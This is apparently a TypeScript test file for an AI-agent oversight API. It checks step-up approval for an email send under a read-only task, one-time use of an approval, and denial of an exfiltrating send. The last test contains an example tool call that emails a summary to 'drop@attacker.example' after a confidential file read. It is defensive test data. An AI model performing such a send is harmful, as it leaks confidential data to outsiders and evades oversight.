import { afterEach, describe, expect, it } from 'vitest';
import { DecisionResponse, type DecisionRequest } from '@chainwatch/schemas';
import { catalogSensitivity } from '@chainwatch/decision-api';
import { bearer, buildHarness, freshView, type Harness } from './harness';
import { realEngine } from './real-engine';
import { confidentialRead } from './scenario';
import { makeEvent } from '@chainwatch/testing';

// The approval flow against the real detection core: after a read, a side effect in a task whose
// intent asked for none is a step-up; once approved, that exact action passes once, and its own
// event does not raise the finding again.
const AGENT = { id: 'agent-files-1', type: 'file-assistant', spiffe_id: 'spiffe://example.org/ns/agents/sa/files' };
// No declared scopes: the task's words decide, and they asked only for information.
const READ_ONLY_TASK = { id: 'task-ro', intent: 'summarise my project files', scopes: [] as string[] };

function send(sessionId: string, to: string, extra: Partial<DecisionRequest> = {}): DecisionRequest {
  return {
    session_id: sessionId,
    trace_id: `trace-${sessionId}`,
    agent: AGENT,
    principal: { sub: 'user:alice', act: [] },
    task: READ_ONLY_TASK,
    action: { kind: 'tool_call', tool: 'send_email', args: { to, subject: 'summary', body: 'the summary' } },
    ...extra,
  };
}

let harness: Harness | null = null;
afterEach(async () => {
  await harness?.close();
  harness = null;
});

describe('approvals with the real engine', () => {
  it('step_up → approve → the same action is allowed once, citing the approval, and its event raises no covered finding', async () => {
    const { engine, catalog } = realEngine();
    harness = await buildHarness(engine, { isSensitive: catalogSensitivity(catalog) }, freshView(engine));
    const h = harness;
    const decide = async (body: DecisionRequest) => {
      const res = await h.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer(h.token), payload: body });
      expect(res.statusCode).toBe(200);
      return DecisionResponse.parse(res.json());
    };

    engine.observe(
      makeEvent({
        session_id: 's-real',
        trace_id: 'trace-s-real',
        agent: AGENT,
        task: READ_ONLY_TASK,
        action: { kind: 'tool_call', tool: 'list_files', operation: 'read', data_class: 'internal', args: { folder: 'projects' } },
      }),
    );
    const first = await decide(send('s-real', 'manager@example.org'));
    expect(first.decision).toBe('step_up');
    const stepUpRule = first.reasons[0]?.rule_id as string;
    expect(stepUpRule).toBeTruthy();
    const binding = first.obligations.approval?.binding as string;

    const approver = await h.auth.sign({ sub: 'team-lead', roles: ['approver'] });
    const answer = await h.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(approver), payload: { approve: true } });
    expect(answer.statusCode).toBe(200);

    const retried = await decide(send('s-real', 'manager@example.org', { approval_binding: binding }));
    expect(retried.decision).toBe('allow');
    expect(retried.reasons[0]).toMatchObject({ rule_id: 'approval.granted' });
    expect(retried.reasons[0]?.message).toContain('team-lead');

    // An approval unlocks its action once: a replay is a step-up again.
    const again = await decide(send('s-real', 'manager@example.org'));
    expect(again.decision).toBe('step_up');
    expect(again.reasons.map((r) => r.rule_id)).toContain(stepUpRule);

    // The approval reached the session state: the approved send's own event, once reported,
    // does not raise the finding that asked for the step-up (the session is not left risky).
    const ran = engine.observe(
      makeEvent({
        session_id: 's-real',
        trace_id: 'trace-s-real',
        agent: AGENT,
        task: READ_ONLY_TASK,
        action: { kind: 'tool_call', tool: 'send_email', operation: undefined, resource: undefined, data_class: undefined, args: { to: 'manager@example.org', subject: 'summary', body: 'the summary' } },
      }),
    );
    expect(ran.findings.map((f) => f.rule_id)).not.toContain(stepUpRule);

    // Another recipient is another action: not covered.
    const other = await decide(send('s-real', 'someone@elsewhere.example', { approval_binding: binding }));
    expect(other.decision).not.toBe('allow');
  });

  it('an exfiltrating send after a confidential read is denied before it happens', async () => {
    const { engine, catalog } = realEngine();
    const read = confidentialRead('s-exfil-real');
    engine.observe(read);
    harness = await buildHarness(engine, { isSensitive: catalogSensitivity(catalog) }, freshView(engine));
    const res = await harness.api.app.inject({
      method: 'POST',
      url: '/v1/decisions',
      headers: bearer(harness.token),
      payload: { ...send('s-exfil-real', 'drop@attacker.example'), task: { id: 'task-summary', intent: 'summarise my project files and send the summary to my manager by email', scopes: ['files.read', 'mail.send'] } },
    });
    const body = DecisionResponse.parse(res.json());
    expect(['step_up', 'deny']).toContain(body.decision);
    expect(body.reasons.flatMap((r) => r.evidence_event_ids)).toContain(read.event_id);
  });
});
